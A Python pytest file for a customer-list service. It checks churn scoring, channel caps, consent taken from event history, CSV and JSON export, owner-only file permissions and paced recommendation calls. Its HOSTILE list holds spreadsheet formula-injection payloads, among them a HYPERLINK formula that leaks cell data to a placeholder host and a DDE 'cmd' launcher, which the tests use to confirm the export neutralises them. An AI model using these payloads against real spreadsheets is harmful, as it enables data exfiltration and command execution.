"""Whom a list names and whom it does not, as pure decisions, files and paced questions."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import stat
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import redis

from nearline.client import Unavailable
from nearline.contracts.answer import Degradation, FeatureReason, LifetimeValue, Score
from nearline.contracts.event import Event
from nearline.contracts.position import LogPosition
from nearline.history import log_file_name, table_of, write_day_file
from nearline.say import Words
from nearline.transforms.customer import EMPTY, CustomerState
from serving.lists import contents, output, reach
from serving.lists.choosing import Best, entry_or_left, sort_out
from serving.lists.model import (
    LEFT_WORDS,
    Channel,
    Entry,
    Grounds,
    Left,
    Made,
    Purpose,
    Wanted,
    Way,
)
from serving.lists.reach import Reachable, refused_in, ways_of
from serving.scores import Foretold

NOW_US = 1_795_201_200_000_000
DAY_US = 86_400_000_000
SEEN = CustomerState(first_seen_us=1, last_seen_us=NOW_US - DAY_US)
BY_EMAIL = Reachable("ann", (Way(Channel.EMAIL, Grounds.REACHABLE),))
WANTED = Wanted(Purpose.WIN_BACK, most=10, min_probability=0.5, horizon_days=14)
FAILED = Foretold(missing=(Degradation.SCORES_UNAVAILABLE, Degradation.ANSWER_FAILED))
WHY = FeatureReason("seen_age_hours", 288.0, 1.4, "Last was here 12 days ago", "最近到访在 12 天前")


def churning(probability: float, value_cents: float | None = 8_000.0, days: int = 14) -> Foretold:
    value = None if value_cents is None else LifetimeValue(364, 2.0, value_cents, 0.9)
    return Foretold((Score(f"churn_{days}d", "churn", days, probability, (WHY,)),), value)


def nobody_is_capped(customer_id: str, channel: Channel) -> bool:
    return False


# Who is listed.


def test_who_is_listed_comes_with_value_channel_and_reasons() -> None:
    entry = entry_or_left(WANTED, BY_EMAIL, SEEN, churning(0.75), nobody_is_capped)

    assert entry == Entry(
        "ann", 0.75, 14, "", 8_000.0, BY_EMAIL.ways[0], NOW_US - DAY_US,
        (Words(WHY.text_en, WHY.text_zh),),
    )  # fmt: skip
    assert isinstance(entry, Entry)
    assert entry.at_stake_cents == 6_000.0


@pytest.mark.parametrize(
    ("state", "told", "wanted", "left"),
    [
        (EMPTY, Foretold(), WANTED, Left.UNKNOWN),
        (SEEN, Foretold(missing=(Degradation.OUTSIDE_COHORT,)), WANTED, Left.OUTSIDE_COHORT),
        (SEEN, FAILED, WANTED, Left.UNSCORED),
        (SEEN, Foretold(), WANTED, Left.NOT_ASKED),
        (SEEN, churning(0.9, days=30), WANTED, Left.NOT_ASKED),
        (SEEN, churning(0.49), WANTED, Left.UNLIKELY),
        (SEEN, churning(0.9, 999.0), replace(WANTED, min_value_cents=1_000.0), Left.LOW_VALUE),
        (SEEN, churning(0.9, None), replace(WANTED, min_value_cents=1_000.0), Left.LOW_VALUE),
    ],
)
def test_who_is_not_listed_is_so_for_one_reason(
    state: CustomerState, told: Foretold, wanted: Wanted, left: Left
) -> None:
    assert entry_or_left(wanted, BY_EMAIL, state, told, nobody_is_capped) is left
    assert LEFT_WORDS[left].en
    assert LEFT_WORDS[left].zh


def test_a_capped_channel_gives_way_to_the_next_and_without_any_nobody_is_listed() -> None:
    both = Reachable(
        "ann", (Way(Channel.PUSH, Grounds.CAME_BY), Way(Channel.EMAIL, Grounds.REACHABLE))
    )

    def listed(*full: Channel, wanted: Wanted = WANTED) -> Any:
        return entry_or_left(wanted, both, SEEN, churning(0.9), lambda _, channel: channel in full)

    assert listed().way.channel is Channel.PUSH
    assert listed(Channel.PUSH).way.channel is Channel.EMAIL
    assert listed(Channel.PUSH, Channel.EMAIL) is Left.CAPPED
    only_email = replace(WANTED, channel=Channel.EMAIL)
    assert listed(Channel.EMAIL, wanted=only_email) is Left.CAPPED
    assert listed(wanted=only_email).way == Way(Channel.EMAIL, Grounds.CHOSEN)


def test_of_several_categories_the_likeliest_that_was_asked_for_counts() -> None:
    def score(category: str, probability: float) -> Score:
        return Score("category_demand_7d", "category_demand", 7, probability, (), category)

    told = Foretold((score("shoes", 0.6), score("hats", 0.4), score("tea", 0.3)))
    wanted = Wanted(Purpose.DEMAND, 10, 0.2, horizon_days=7)

    def category(*categories: str) -> Any:
        asked = replace(wanted, categories=categories)
        found = entry_or_left(asked, BY_EMAIL, SEEN, told, nobody_is_capped)
        return found.category if isinstance(found, Entry) else found

    assert category() == "shoes"
    assert category("tea", "hats") == "hats"
    assert category("lamps") is Left.NOT_ASKED


def entry(customer_id: str, probability: float, value_cents: float | None) -> Entry:
    return Entry(customer_id, probability, 14, "", value_cents, BY_EMAIL.ways[0], NOW_US)


def test_the_best_are_those_with_most_at_stake_whatever_the_order_they_come_in() -> None:
    chance = random.Random(8)
    entries = [
        entry(f"c{n}", chance.random(), chance.choice((None, 1e3 * chance.random())))
        for n in range(300)
    ]
    best = Best(20)
    for one in entries:
        best.add(one, replace(BY_EMAIL, customer_id=one.customer_id))

    wanted = sorted(
        entries, key=lambda one: (-(one.at_stake_cents or 0), -one.probability, one.customer_id)
    )[:20]
    assert {one.customer_id for one in best.people()} == {one.customer_id for one in wanted}
    assert [one.customer_id for one in best.people()][:3] == [one.customer_id for one in wanted][:3]
    assert best.beyond == 280


def test_everybody_is_listed_or_left_out_for_a_reason() -> None:
    people = [replace(BY_EMAIL, customer_id=f"c{n}") for n in range(4)]
    told = [churning(0.9), churning(0.1), Foretold(), churning(0.8)]

    entries, left = sort_out(
        WANTED, people, [SEEN, SEEN, EMPTY, SEEN], told, lambda who, _: who == "c3"
    )

    assert [person.customer_id for _, person in entries] == ["c0"]
    assert left == {Left.UNLIKELY: 1, Left.UNKNOWN: 1, Left.CAPPED: 1}


# Ways.


@pytest.mark.parametrize(
    ("addresses", "visits", "ways"),
    [
        ((False, False, False), (0, 0, 0), [("onsite", "no_address")]),
        ((False, True, True), (0, 0, 0), [("email", "reachable"), ("sms", "reachable")]),
        ((True, True, False), (0, 3, 0), [("email", "came_by"), ("push", "reachable")]),
        ((False, False, False), (2, 2, 5), [("sms", "came_by"), ("push", "came_by"),
                                            ("email", "came_by")]),
    ],
)  # fmt: skip
def test_by_what_one_came_most_often_comes_first(
    addresses: Any, visits: Any, ways: list[tuple[str, str]]
) -> None:
    assert [(way.channel, way.grounds) for way in ways_of(addresses, visits)] == ways


# Consent, read from files of history.


def said(
    number: int,
    customer_id: str,
    ago_days: float,
    *consent: str,
    known_ago_days: float | None = None,
    name: str = "view_item",
    payload: Any = None,
) -> Event:
    at_us = NOW_US - int(ago_days * DAY_US)
    known = ago_days if known_ago_days is None else known_ago_days
    return Event(
        event_id=f"e{number}",
        type="identify" if name == "identify" else "track",
        name=name,
        customer_id=customer_id,
        occurred_at_us=at_us,
        known_at_us=NOW_US - int(known * DAY_US),
        source="test",
        consent=("analytics", *consent),
        payload=json.dumps(payload or {}),
    )


def reachable(
    tmp_path: Path,
    events: list[Event],
    monkeypatch: pytest.MonkeyPatch,
    log: tuple[Event, ...] = (),
) -> tuple[dict[str, list[str]], int]:
    root = tmp_path / "history"
    if events:
        positions = [LogPosition(0, n + 1, 0) for n in range(len(events))]
        name = log_file_name(positions[0], positions[-1])
        write_day_file(root, "2026-11-20", name, table_of(events, positions))
    later = [[SimpleNamespace(event=one) for one in log]] if log else []
    monkeypatch.setattr(reach, "scan_partition", lambda *_: iter(later))
    nothing: redis.Redis = None  # type: ignore[assignment]
    with reach.reach(root, nothing, 1, NOW_US, tmp_path / "spill") as found:
        people = [person for page in found.pages(2) for person in page]
    names = {one.customer_id: [way.channel.value for way in one.ways] for one in people}
    return names, found.known


def test_the_newest_statement_decides_and_where_two_disagree_no_does(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    events = [
        said(1, "granted", 9),
        said(2, "granted", 1, "marketing"),
        said(3, "withdrawn", 9, "marketing"),
        said(4, "withdrawn", 1),
        # Stated earlier, heard later: no counts either way.
        said(5, "late no", 5, known_ago_days=0.5),
        said(6, "late no", 2, "marketing"),
        said(7, "late yes", 5, "marketing", known_ago_days=0.5),
        said(8, "late yes", 2),
        said(9, "at once", 1, "marketing"),
        said(10, "at once", 1),
        said(11, "never", 1, "personalization"),
        # What Nearline itself writes says nothing of what the customer wants.
        said(12, "shown", 9, "marketing"),
        said(13, "shown", 1, name="exposure"),
        said(14, "a shop's listing", 1, "marketing", name="item_listed"),
    ]

    names, known = reachable(tmp_path, events, monkeypatch)

    assert sorted(names) == ["granted", "shown"]
    assert known == 7


def test_a_withdrawal_that_only_the_log_knows_yet_counts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    events = [said(1, "ann", 1, "marketing"), said(2, "bob", 1, "marketing")]

    names, _ = reachable(
        tmp_path,
        events,
        monkeypatch,
        (said(3, "ann", 0), said(4, "bob", 0, name="exposure"), said(5, "cat", 0, "marketing")),
    )

    assert sorted(names) == ["bob"]
    assert refused_in([]) == frozenset()


def test_no_history_is_an_empty_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert reachable(tmp_path, [], monkeypatch) == ({}, 0)


def test_addresses_and_visits_are_read_where_segment_puts_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    by_email = {"context": {"campaign": {"medium": "Email", "name": "spring"}}}
    token = {"context": {"device": {"token": "f3a"}}}
    events = [
        said(1, "ann", 3, "marketing", name="identify", payload={"traits": {"email": "a@b.c"}}),
        said(2, "ann", 2, "marketing", payload=token),
        said(3, "ann", 1, "marketing", payload=by_email),
        said(4, "bob", 100, "marketing", payload=by_email),  # too long ago
        said(5, "bob", 1, "marketing", payload={"context": {"traits": {"phone": "1"}}}),
        said(6, "cat", 1, "marketing", payload={"properties": {"email": "in the wrong place"}}),
        said(7, "dan", 1, "marketing", payload={"traits": {"email": ""}}),
    ]

    names, _ = reachable(tmp_path, events, monkeypatch)

    assert names == {
        "ann": ["email", "push"],
        "bob": ["sms"],
        "cat": ["onsite"],
        "dan": ["onsite"],
    }


@pytest.mark.filterwarnings("ignore")
def test_a_payload_that_is_no_json_says_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    broken = replace_payload(said(1, "ann", 1, "marketing"), '{"token": "email" "phone" "medium"')

    assert reachable(tmp_path, [broken], monkeypatch)[0] == {"ann": ["onsite"]}


def replace_payload(event: Event, payload: str) -> Event:
    import msgspec

    return msgspec.structs.replace(event, payload=payload)


# Files.


MADE = Made(
    purpose=Purpose.WIN_BACK,
    entries=(
        Entry(
            "c,1", 0.8123456, 14, "", 1_234.4, BY_EMAIL.ways[0], NOW_US,
            (Words("Last was here 12 days ago", "最近"), Words("Has, a comma", "逗号")),
            ("i1", "i2"),
        ),
        entry("张三", 0.5, None),
    ),
    left={Left.NO_CONSENT: 3},
    known=5,
    bundle="7",
    calibrated_at="2026-11-20T00:00:00Z",
    calibrated_to="2026-11-19T00:00:00Z",
    horizon_days=14,
    as_of_us=NOW_US,
    min_probability=0.5,
    min_value_cents=0.0,
)  # fmt: skip


def test_a_csv_reads_back_row_by_row(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NEARLINE_LANG", "en")

    first, second = csv.DictReader(io.StringIO(output.as_csv(MADE)))

    assert tuple(first) == output.COLUMNS
    assert (first["customer_id"], first["probability"]) == ("c,1", "0.8123")
    assert (first["value_cents"], first["at_stake_cents"]) == ("1234", "1003")
    assert first["why"] == "Last was here 12 days ago; Has, a comma"
    assert (first["channel"], first["item_ids"]) == ("email", "i1 i2")
    assert (second["customer_id"], second["value_cents"]) == ("张三", "")
    assert first["last_seen"] == "2026-11-20T19:00:00Z"


HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    hostile = replace(entry(text, 0.5, -1.0), category=text, item_ids=(text, "i2"))
    page = output.as_csv(replace(MADE, entries=(hostile,)))

    (row,) = csv.DictReader(io.StringIO(page, newline=""))

    assert row["customer_id"] == row["category"] == f"'{text}"
    assert row["item_ids"] == f"'{text} i2"
    assert (row["value_cents"], row["probability"]) == ("-1", "0.5")
    assert (
        json.loads(output.as_json(replace(MADE, entries=(hostile,))))["customers"][0]["customer_id"]
        == text
    )


def test_texts_of_a_csv_stand_in_quotes_so_that_no_separator_begins_a_cell() -> None:
    page = output.as_csv(replace(MADE, entries=(entry("a;=1+1", 0.5, 7.0),)))

    assert page.splitlines()[1].startswith('"a;=1+1",0.5,14,"",7,4,"')


@pytest.mark.parametrize("text", ["+8613800000000", "-5", "+1.5", "a=b", "a-b", "'"])
def test_what_computes_nothing_stays_as_it_is(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(output.as_csv(list_of([text]))))

    assert row["customer_id"] == text


def test_json_says_what_it_was_made_from() -> None:
    whole = json.loads(output.as_json(MADE))

    assert whole["expected_to_come_true"] == 1.3
    assert (whole["bundle"], whole["calibrated_to"]) == ("7", "2026-11-19T00:00:00Z")
    assert whole["left_out"] == {"no_consent": 3}
    assert whole["customers"][0]["why"][0] == {
        "text_en": "Last was here 12 days ago",
        "text_zh": "最近",
    }
    assert whole["customers"][1]["at_stake_cents"] is None


def test_a_file_is_its_owner_s_alone_and_whole_or_not_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "list.csv"
    path.write_text("of before")
    path.chmod(0o644)
    before = os.umask(0)
    try:
        with monkeypatch.context() as patch:
            patch.setattr(os, "fchmod", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
            with pytest.raises(KeyboardInterrupt):
                output.write(path, "half")
        assert path.read_text() == "of before"
        assert list(tmp_path.iterdir()) == [path]

        output.write(path, "名单\n")
    finally:
        os.umask(before)
    assert path.read_text(encoding="utf-8") == "名单\n"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


# Items.


class Api:
    """Answers at once; who is in `empty` gets nothing, which is told so; `failing` an error."""

    def __init__(
        self, empty: dict[str, tuple[Degradation, ...]] | None = None, failing: str = ""
    ) -> None:
        self.empty, self.failing = empty or {}, failing
        self.asked = list[tuple[str, str, int, str]]()

    def recommend(
        self, customer_id: str, scene: str, k: int, *, channel: str, timeout_s: float
    ) -> Any:
        self.asked.append((customer_id, scene, k, channel))
        if customer_id in self.failing:
            raise Unavailable("API", "http://there", 10.0, "no connection")
        if customer_id in self.empty:
            return SimpleNamespace(items=[], degraded=self.empty[customer_id])
        return SimpleNamespace(
            items=[SimpleNamespace(item_id=f"i{n}") for n in range(k)], degraded=()
        )


def list_of(names: Iterable[str]) -> Made:
    return replace(MADE, entries=tuple(entry(name, 0.5, None) for name in names), left={})


def test_items_are_asked_for_by_channel_and_who_gets_none_leaves_the_list() -> None:
    api = Api({"张三": (Degradation.NOTHING_TO_RECOMMEND,)})

    made = contents.with_items(MADE, api, "email", 2, per_second=1e9)

    assert api.asked == [("c,1", "email", 2, "email"), ("张三", "email", 2, "email")]
    assert [(one.customer_id, one.item_ids) for one in made.entries] == [("c,1", ("i0", "i1"))]
    assert made.left == {Left.NO_CONSENT: 3, Left.NO_ITEMS: 1}


def test_an_empty_answer_is_counted_by_what_it_says() -> None:
    api = Api(
        {
            "a": (Degradation.NOTHING_TO_RECOMMEND,),
            "b": (Degradation.CAP_UNKNOWN,),
            "c": (Degradation.CAP_UNKNOWN, Degradation.STALE),
            "d": (),  # Capped since the list was made.
        }
    )

    made = contents.with_items(list_of("abcde"), api, "email", 1, per_second=1e9)

    assert [one.customer_id for one in made.entries] == ["e"]
    assert made.left == {Left.CAPPED: 1, Left.NO_ITEMS: 1, Left.CAP_UNKNOWN: 2}
    assert made.unanswered == ()


def test_what_was_answered_is_kept_when_a_question_fails_since_its_cap_is_taken() -> None:
    api = Api(failing="bce")

    made = contents.with_items(list_of("abcdefg"), api, "email", 1, per_second=1e9)

    assert [one.customer_id for one in made.entries] == ["a", "d", "f", "g"]
    assert all(one.item_ids == ("i0",) for one in made.entries)
    assert [one.customer_id for one in made.unanswered] == ["b", "c", "e"]
    assert made.left == {Left.UNANSWERED: 3}
    (note,) = made.notes
    assert "no connection" in note.en
    assert "no connection" in note.zh


def test_three_failures_in_a_row_end_the_asking() -> None:
    api = Api(failing="bde")
    made = contents.with_items(list_of("abcdecgh"), api, "email", 1, per_second=1e9)
    assert len(api.asked) == 8

    api = Api(failing="cdefgh")
    made = contents.with_items(list_of("abcdefgh"), api, "email", 1, per_second=1e9)

    assert [name for name, *_ in api.asked] == list("abcde")
    assert [one.customer_id for one in made.entries] == ["a", "b"]
    assert [one.customer_id for one in made.unanswered] == list("cdefgh")
    assert made.left == {Left.UNANSWERED: 6}


@pytest.mark.parametrize("names", ["a", "ab", "abcd"])
def test_where_nobody_got_an_answer_the_error_is_told(names: str) -> None:
    with pytest.raises(Unavailable):
        contents.with_items(list_of(names), Api(failing=names), "email", 1, per_second=1e9)


def test_who_got_no_answer_is_written_beside_the_list() -> None:
    assert output.beside(Path("out/leaving.csv")) == Path("out/leaving.unanswered.csv")
    assert output.beside(Path("again.v2.json")) == Path("again.v2.unanswered.json")


def test_questions_are_no_faster_than_was_said() -> None:
    now_s, slept, asked_at = 0.0, list[float](), list[float]()

    def sleep(delay_s: float) -> None:
        nonlocal now_s
        slept.append(delay_s)
        now_s += delay_s

    class Slow(Api):
        def recommend(self, *args: Any, **more: Any) -> Any:
            nonlocal now_s
            asked_at.append(now_s)
            now_s += 0.02
            return super().recommend(*args, **more)

    many = replace(MADE, entries=tuple(entry(f"c{n}", 0.5, None) for n in range(11)))
    contents.with_items(many, Slow(), "email", 1, 10.0, clock_s=lambda: now_s, sleep=sleep)

    assert asked_at == pytest.approx([n / 10 for n in range(11)])
    assert len(slept) == 10
